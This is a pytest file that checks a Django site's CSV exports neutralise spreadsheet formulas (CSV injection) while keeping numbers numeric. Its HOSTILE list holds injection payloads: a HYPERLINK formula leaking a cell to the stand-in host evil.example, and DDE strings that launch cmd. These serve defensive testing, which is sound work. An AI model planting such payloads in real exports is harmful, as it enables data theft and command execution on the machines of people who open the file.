"""No CSV the project writes carries a live spreadsheet formula (OWASP "CSV
injection"): admin listing exports of every model, the open-data exports and the
practice library's download. Numbers stay numbers."""

import csv
import io
from decimal import Decimal

import pytest
from django.urls import reverse

from branding.factories import make_inquiry, make_showcase
from cms.csvsafe import safe_cell
from cms.factories import english_home, make_user
from practices.factories import (
    PracticeIndexPageFactory,
    PracticePageFactory,
    make_practice,
)
from practices.models import TransferCase
from regions.factories import RegionKeyFigureFactory, make_region
from search.models import QueryStatistic
from tests.helpers import text

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def rows_of(response):
    assert response.status_code == 200, response
    return list(csv.DictReader(io.StringIO(text(response))))


def assert_inert(value, original):
    assert value == "'" + original, value


def admin():
    """A superuser of the test's own (every admin export is open to one)."""
    return make_user("csv-admin", is_staff=True, is_superuser=True)


@pytest.mark.parametrize("value", HOSTILE)
def test_formula_cells_get_a_quote(value):
    assert safe_cell(value) == "'" + value


@pytest.mark.parametrize(
    "value", ["-12", "+3.5", "-0.25", "-1e3", "12", "Ann", "", "a=b", " =x"]
)
def test_numbers_and_plain_text_are_unchanged(value):
    assert safe_cell(value) == value


@pytest.mark.parametrize("value", [-12, -3.5, Decimal("-7.25"), None, True])
def test_non_text_values_are_unchanged(value):
    assert safe_cell(value) is value


@pytest.mark.django_db
def test_inquiry_export_neutralises_what_a_visitor_typed(client):
    page = make_region("Formula Coast", "formula-coast")
    make_showcase(page)
    inquiry = make_inquiry(
        page,
        name=HOSTILE[1],
        company=HOSTILE[0],
        email="ann@acme.example",
        country=HOSTILE[2],
        message="We look for a site.",
        consent=True,
    )
    assert inquiry.showcase is not None
    client.force_login(admin())
    url = reverse("wagtailsnippets_branding_investorinquiry:list")
    rows = rows_of(client.get(url, {"export": "csv"}))
    row = next(row for row in rows if row["Company"].endswith(HOSTILE[0]))
    assert_inert(row["Company"], HOSTILE[0])
    assert_inert(row["Name"], HOSTILE[1])
    assert_inert(row["Country"], HOSTILE[2])
    assert row["E-mail"] == "ann@acme.example"
    # Other rows are untouched text.
    assert all(not r["Reference"].startswith("'") for r in rows)


@pytest.mark.django_db
def test_transfer_case_export_neutralises_titles(client):
    case = TransferCase.objects.create(
        title=HOSTILE[3],
        region=make_region("Formula Bay", "formula-bay"),
        practice=make_practice(title="Export coaching", slug="formula-coaching"),
    )
    client.force_login(admin())
    url = reverse("wagtailsnippets_practices_transfercase:list")
    rows = rows_of(client.get(url, {"export": "csv"}))
    row = next(row for row in rows if row["Reference"] == case.reference)
    assert_inert(row["Title"], HOSTILE[3])


@pytest.mark.django_db
def test_search_statistics_export_keeps_counts_as_numbers(client):
    QueryStatistic.objects.create(
        query_string=HOSTILE[4], language="en", hits=7, zero_result_hits=2
    )
    client.force_login(admin())
    url = reverse("search_queries:index")
    rows = rows_of(client.get(url, {"export": "csv"}))
    row = next(row for row in rows if row["Query"].endswith(HOSTILE[4]))
    assert_inert(row["Query"], HOSTILE[4])
    assert row["Searches"] == "7"


@pytest.mark.django_db
def test_open_data_csv_neutralises_text_and_keeps_negative_numbers(client):
    make_practice(title=HOSTILE[0])
    rows = rows_of(client.get("/en/opendata/practices.csv"))
    assert "'" + HOSTILE[0] in {row["title"] for row in rows}

    figure = RegionKeyFigureFactory(page=make_region("Formula Plain", "formula-plain"))
    figure.label = HOSTILE[3]
    figure.value = Decimal("-3.5")
    figure.source = HOSTILE[5]
    figure.save()
    rows = rows_of(client.get("/en/opendata/key-figures.csv"))
    row = next(row for row in rows if row["label"].endswith(HOSTILE[3]))
    assert_inert(row["label"], HOSTILE[3])
    assert_inert(row["source"], HOSTILE[5])
    assert Decimal(row["value"]) == Decimal("-3.5")
    # A spreadsheet reads the year and the region id as numbers, not text.
    assert row["year"].isdigit() and row["region_id"].isdigit()


@pytest.mark.django_db
def test_practice_library_download_neutralises_titles(client):
    index = PracticeIndexPageFactory(parent=english_home())
    PracticePageFactory(parent=index, title=HOSTILE[2])
    rows = rows_of(client.get(index.url + "export/csv/"))
    assert "'" + HOSTILE[2] in {row["title"] for row in rows}
